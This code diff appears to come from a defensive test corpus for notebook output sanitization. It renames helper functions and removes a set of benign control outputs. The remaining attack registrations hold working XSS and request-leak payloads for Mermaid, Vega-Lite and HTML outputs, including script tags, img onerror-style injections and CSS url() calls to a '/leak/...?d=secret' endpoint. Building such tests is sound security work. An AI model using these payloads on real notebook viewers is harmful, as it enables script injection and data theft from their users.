@@ -110,7 +110,7 @@ def visible(js: str) -> str:
     return f'<sk-x oncontentvisibilityautostatechange="{js}" style="display:block;content-visibility:auto">x</sk-x>'
 
 
-def _mermaid(text: str) -> dict:
+def mermaid(text: str) -> dict:
     return {"text/vnd.mermaid": text, "text/plain": "a diagram"}
 
 
@@ -119,7 +119,7 @@ def _vl_image(url: str) -> dict:
             "encoding": {"x": {"field": "x", "type": "quantitative"}, "url": {"field": "u", "type": "nominal"}}}
 
 
-def _vl_bar() -> dict:
+def vl_bar() -> dict:
     return {"$schema": VL, "data": {"values": [{"a": "A", "b": 3}, {"a": "B", "b": 5}]}, "mark": "bar",
             "encoding": {"x": {"field": "a", "type": "nominal"}, "y": {"field": "b", "type": "quantitative"}}}
 
@@ -187,13 +187,13 @@ for _name, _kind in (("style-breakout-html", "HTML"), ("style-breakout-markdown"
         lambda js, url, kind=_kind: IMPORTS + "\n".join(f"display({kind}({part!r}))" for part in _breakout(js)))
 
 # -- 3. Mermaid (text/vnd.mermaid and ```mermaid fences) ---------------------------------
-attack("mermaid-img-shape", "mermaid", "request")(lambda js, url: raw(_mermaid(
+attack("mermaid-img-shape", "mermaid", "request")(lambda js, url: raw(mermaid(
     f'flowchart LR\n  A@{{ img: "{url}", label: "a", pos: "t", w: 30, h: 30, constraint: "off" }}\n  A --> B\n')))
-attack("mermaid-label-img", "mermaid", "request")(lambda js, url: raw(_mermaid(
+attack("mermaid-label-img", "mermaid", "request")(lambda js, url: raw(mermaid(
     f"flowchart LR\n  A[\"<img src='{url}' width='8'> a\"] --> B\n")))
-attack("mermaid-init-themecss", "mermaid", "request")(lambda js, url: raw(_mermaid(
+attack("mermaid-init-themecss", "mermaid", "request")(lambda js, url: raw(mermaid(
     '%%{init: {"themeCSS": "* { background-image: url(' + url + ') }"}}%%\nflowchart LR\n  C --> D\n')))
-attack("mermaid-frontmatter-themecss", "mermaid", "request")(lambda js, url: raw(_mermaid(
+attack("mermaid-frontmatter-themecss", "mermaid", "request")(lambda js, url: raw(mermaid(
     f'---\nconfig:\n  themeCSS: "* {{ background-image: url({url}) }}"\n---\nflowchart LR\n  E --> F\n')))
 attack("mermaid-markdown-fence", "mermaid", "request")(lambda js, url: show(
     "Markdown", f'A diagram:\n\n```mermaid\nflowchart LR\n  G@{{ img: "{url}", label: "g", pos: "t", w: 30, h: 30, '
@@ -217,7 +217,7 @@ attack("widget-label-style-url", "maths", "request", widget=True)(
 # First among the charts of its page: vega-embed writes its <style> once per page. (In
 # magic-sanitize, the isolate copy follows the sanitize one: kernel-isolate judges it under isolate.)
 attack("vega-metadata-default-style", "vega", "request")(lambda js, url: raw(
-    {VEGA_LITE: _vl_bar(), "text/plain": "chart"},
+    {VEGA_LITE: vl_bar(), "text/plain": "chart"},
     {VEGA_LITE: {"embed_options": {"defaultStyle": f".vega-embed{{background-image:url({url})}}"}}}))
 attack("vega-url-signal", "vega", "request")(lambda js, url: raw({VEGA_MIME: {
     "$schema": VEGA, "width": 20, "height": 20,
@@ -234,13 +234,13 @@ attack("vegalite-v4-image-url-field", "vega", "request")(lambda js, url: raw(
 attack("vega-spec-is-a-url", "vega", "request")(lambda js, url: raw(
     {VEGA_LITE: url, "text/plain": "chart"}))  # vega-embed loads a string spec as a URL
 attack("vegalite-usermeta-config", "vega", "request")(lambda js, url: raw({VEGA_LITE: {
-    **_vl_bar(), "usermeta": {"embedOptions": {"config": url}}}, "text/plain": "chart"}))
+    **vl_bar(), "usermeta": {"embedOptions": {"config": url}}}, "text/plain": "chart"}))
 attack("vegalite-usermeta-patch", "vega", "request")(lambda js, url: raw({VEGA_LITE: {
-    **_vl_bar(), "usermeta": {"embedOptions": {"patch": url}}}, "text/plain": "chart"}))
+    **vl_bar(), "usermeta": {"embedOptions": {"patch": url}}}, "text/plain": "chart"}))
 attack("vega-metadata-config-url", "metadata", "request")(lambda js, url: raw(
-    {VEGA_LITE: _vl_bar(), "text/plain": "chart"}, {VEGA_LITE: {"embed_options": {"config": url}}}))
+    {VEGA_LITE: vl_bar(), "text/plain": "chart"}, {VEGA_LITE: {"embed_options": {"config": url}}}))
 attack("vega-metadata-patch-url", "metadata", "request")(lambda js, url: raw(
-    {VEGA_LITE: _vl_bar(), "text/plain": "chart"}, {VEGA_LITE: {"embed_options": {"patch": url}}}))
+    {VEGA_LITE: vl_bar(), "text/plain": "chart"}, {VEGA_LITE: {"embed_options": {"patch": url}}}))
 
 # -- 7. Widget state moved around by the browser -----------------------------------------
 attack("widget-jsdlink-text-to-html", "widget", "file", widget=True)(lambda js, url: (
@@ -351,13 +351,13 @@ _A.clear()
 
 # -- click-required: recorded, fired under trust by hand, not run in CI --------------------
 attack("vega-view-source-spec-html", "vega", "file")(lambda js, url: raw(
-    {VEGA_LITE: {**_vl_bar(), "description": f"</code><img src=x {bare(js)}>"}, "text/plain": "chart"}))
+    {VEGA_LITE: {**vl_bar(), "description": f"</code><img src=x {bare(js)}>"}, "text/plain": "chart"}))
 attack("vega-view-source-footer", "vega", "file")(lambda js, url: raw(
-    {VEGA_LITE: _vl_bar(), "text/plain": "chart"},
+    {VEGA_LITE: vl_bar(), "text/plain": "chart"},
     {VEGA_LITE: {"embed_options": {"sourceFooter": f"<script>{js}</script>"}}}))
 attack("vega-usermeta-actions-view-source", "vega", "file")(lambda js, url: raw(
     # usermeta.embedOptions wins over the output metadata in vega-embed's merge
-    {VEGA_LITE: {**_vl_bar(), "description": f"</code><img src=x {bare(js)}>",
+    {VEGA_LITE: {**vl_bar(), "description": f"</code><img src=x {bare(js)}>",
                  "usermeta": {"embedOptions": {"actions": True}}}, "text/plain": "chart"},
     {VEGA_LITE: {"embed_options": {"actions": False}}}))
 attack("fixed-overlay-link", "raw-input", "request")(lambda js, url: show(
@@ -414,75 +414,3 @@ def corpus(tag: str, origin: str, *, widgets: bool = True) -> dict[str, tuple[st
 def click_required(tag: str, origin: str) -> dict[str, str]:
     """``{name: cell source}`` of :data:`CLICK_REQUIRED` for notebook ``tag``."""
     return {a.name: a.build(payload(tag, a.name), f"{origin}/leak/{tag}/{a.name}?d=secret") for a in CLICK_REQUIRED}
-
-
-# -- outputs a person must still see -------------------------------------------------------
-CHART = ('<canvas id="chart" width="120" height="60"></canvas><script>'
-         'var g=document.getElementById("chart").getContext("2d");g.fillStyle="rgb(200,30,30)";'
-         'g.fillRect(0,0,120,60);'
-         'var ns="http://www.w3.org/2000/svg",s=document.createElementNS(ns,"svg"),'
-         'r=document.createElementNS(ns,"rect");'
-         's.id="drawn";s.setAttribute("width","60");s.setAttribute("height","20");'
-         'r.setAttribute("width","50");r.setAttribute("height","10");s.appendChild(r);document.body.appendChild(s);'
-         '</script>')
-"""A script-driven chart: a script fills a canvas red and adds an ``<svg id="drawn">``."""
-CHART_CELL = show("HTML", CHART)
-
-ORDINARY = {
-    "table": "import pandas as pd\npd.DataFrame({'city': ['Oslo', 'Lima', 'Pune'], 'temp': [4, 19, 31]})",
-    "figure": "import matplotlib.pyplot as plt\nplt.plot([1, 3, 2])\nplt.show()",
-    "bold": show("HTML", "<b>bold</b> and plain"),
-}
-"""Outputs a person expects to see: ``{name: cell source}``."""
-
-def styler_html() -> str:
-    """A pandas Styler table as HTML, made here: the sandbox image has pandas but not jinja2,
-    which ``DataFrame.style`` needs. Its ``<style>`` block colours cells by id selectors."""
-    import pandas as pd
-
-    frame = pd.DataFrame({"city": ["Oslo", "Lima"], "temp": [4, 31]})
-    return frame.style.map(lambda v: "background-color: rgb(255, 0, 0)" if v == 31 else "",
-                           subset=["temp"]).to_html()
-
-
-def controls() -> dict[str, str]:
-    """Outputs of everyday tools that must still render under ``sanitize``: ``{name: source}``."""
-    vega_lite = {**_vl_bar(), "width": 120, "height": 80}
-    return {
-        "vega-lite-chart": raw({VEGA_LITE: vega_lite, "text/plain": "<VegaLite 5 object>"}),
-        "mermaid-flowchart": raw(_mermaid("flowchart LR\n  Load --> Clean --> Plot\n")),
-        "latex": raw({"text/latex": "$$\\int_0^1 x^2\\,dx = \\frac{1}{3}$$", "text/plain": "1/3"}),
-        "markdown-maths": show("Markdown", "The square: $x^2$, and $$\\sum_{i=1}^n i$$"),
-        "styler": show("HTML", styler_html()),
-        "svg-figure": ("%config InlineBackend.figure_formats = ['svg']\n"
-                       "import matplotlib.pyplot as plt\nplt.plot([1, 3, 2])\nplt.show()\n"
-                       "%config InlineBackend.figure_formats = ['png']"),
-        "widgets": WIDGETS,
-    }
-
-
-WIDGETS = """import ipywidgets as w
-out = w.Output()
-button = w.Button(description='Press')
-button.on_click(lambda _: out.append_stdout('pressed'))
-w.VBox([
-    w.HBox([button, w.Text(value='text'), w.Textarea(value='area'), w.Dropdown(options=['a', 'b'], value='b'),
-            w.Checkbox(value=True, description='check')]),
-    w.HBox([w.FloatSlider(value=2.5, max=5), w.IntRangeSlider(value=[2, 4], max=9), w.IntProgress(value=3, max=9),
-            w.ToggleButtons(options=['x', 'y']), w.ColorPicker(value='#ff0000'), w.DatePicker()]),
-    w.HBox([w.HTML(value='<b>bold</b> widget'), w.HTMLMath(value='maths $x^2$'), w.Label(value='label'),
-            w.Image(value=bytes.fromhex('89504e470d0a1a0a0000000d4948445200000001000000010806000000'
-                                        '1f15c4890000000d49444154789c6360f8ffff3f0005fe02fea7d6a4bb'
-                                        '0000000049454e44ae426082'), format='png', width=8, height=8),
-            w.Play(value=1), w.Valid(value=True)]),
-    w.Tab(children=[w.Label(value='first tab'), w.Label(value='second tab')], titles=('one', 'two')),
-    out,
-])"""
-"""The standard widgets in one view; pressing the button writes "pressed" into the Output widget."""
-
-SLIDER = {
-    "slider": "import ipywidgets\nslider = ipywidgets.IntSlider(value=3, min=0, max=10)\nslider",
-    "slider-set": "slider.value = 7",
-    "slider-read": "print('slider value', slider.value)",
-}
-"""An IntSlider made in one cell, moved by a later cell, read back by a third."""
